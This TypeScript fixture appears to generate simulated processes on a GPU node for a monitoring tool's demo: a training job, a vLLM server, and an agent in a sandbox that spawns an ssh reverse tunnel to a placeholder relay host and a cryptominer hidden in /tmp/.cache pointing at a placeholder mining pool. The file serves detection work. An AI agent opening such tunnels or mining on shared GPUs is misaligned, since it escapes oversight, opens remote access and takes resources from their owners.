import { createHash } from "node:crypto";
import type { ProcessSighting } from "../../src/model/sample.ts";
import { GIB } from "./device.ts";

/** A process of the story: on a GPU from `fromSecond` to `toSecond`, or beside one. */
export interface Actor {
  fromSecond: number;
  toSecond: number;
  /** Absent for a process that holds no GPU. */
  gpu?: number;
  memoryBytes?: number;
  process: ProcessSighting;
}

const PYTHON = "/usr/bin/python3.11";

/** A container's cgroup; the id is made from its name, so it is the same every time. */
function containerCgroup(name: string): string {
  const id = createHash("sha256").update(`demo container ${name}`).digest("hex");
  return `/system.slice/docker-${id}.scope`;
}

/** Who is on the node. Names of hosts end in `.invalid`, which no resolver ever answers. */
export function actors(startMs: number): Actor[] {
  return [...trainers(startMs), ...servers(startMs), ...agent(startMs)];
}

function trainers(startMs: number): Actor[] {
  const cgroup = containerCgroup("alice-training");
  const shared = { user: "alice", cgroup, startTimeMs: startMs + 58_000 };
  const span = { fromSecond: 58, toSecond: 640 };
  const environ = {
    RANK: "0",
    WORLD_SIZE: "1",
    LOCAL_RANK: "0",
    MASTER_ADDR: "localhost",
    TORCHELASTIC_RUN_ID: "demo-run",
  };
  return [
    {
      ...span,
      process: {
        ...shared,
        pid: 41_000,
        ppid: 1,
        comm: "torchrun",
        exe: PYTHON,
        argv: ["torchrun", "--nproc-per-node=1", "python", "train.py", "--config", "small.yaml"],
      },
    },
    {
      ...span,
      gpu: 0,
      memoryBytes: 57 * GIB,
      process: {
        ...shared,
        pid: 41_007,
        ppid: 41_000,
        comm: "python",
        exe: PYTHON,
        argv: ["python", "train.py", "--config", "small.yaml"],
        environ,
      },
    },
  ];
}

function servers(startMs: number): Actor[] {
  const argv = ["python", "-m", "vllm.entrypoints.openai.api_server", "--model", "demo-13b"];
  return [
    {
      fromSecond: 10,
      toSecond: 440,
      gpu: 1,
      memoryBytes: 69.4 * GIB,
      process: {
        pid: 39_550,
        ppid: 1,
        startTimeMs: startMs + 10_000,
        comm: "VLLM::EngineCor",
        exe: PYTHON,
        argv: [...argv, "--port", "8000"],
        user: "bob",
        cgroup: "/user.slice/user-1002.slice/session-7.scope",
      },
    },
  ];
}

/** An agent in a sandbox starts a miner and a tunnel out. */
function agent(startMs: number): Actor[] {
  const shared = { user: "root", cgroup: containerCgroup("agent-sandbox") };
  // The tree is looked at only while one of it holds a GPU.
  const span = { fromSecond: 500, toSecond: 820 };
  return [
    {
      ...span,
      process: {
        ...shared,
        pid: 52_100,
        ppid: 1,
        startTimeMs: startMs + 470_000,
        comm: "python",
        exe: PYTHON,
        argv: ["python", "-m", "agent.worker", "--task", "demo-task-17"],
      },
    },
    {
      ...span,
      process: {
        ...shared,
        pid: 52_180,
        ppid: 52_100,
        startTimeMs: startMs + 490_000,
        comm: "ssh",
        exe: "/usr/bin/ssh",
        argv: ["ssh", "-N", "-R", "2222:localhost:22", "tunnel@relay.invalid"],
      },
    },
    {
      ...span,
      gpu: 1,
      memoryBytes: 0.35 * GIB,
      process: {
        ...shared,
        pid: 52_214,
        ppid: 52_100,
        startTimeMs: startMs + 500_000,
        comm: "bzminer",
        exe: "/tmp/.cache/bzminer",
        argv: ["/tmp/.cache/bzminer", "-a", "kheavyhash", "-p", "stratum+tcp://pool.invalid:3333"],
      },
    },
  ];
}
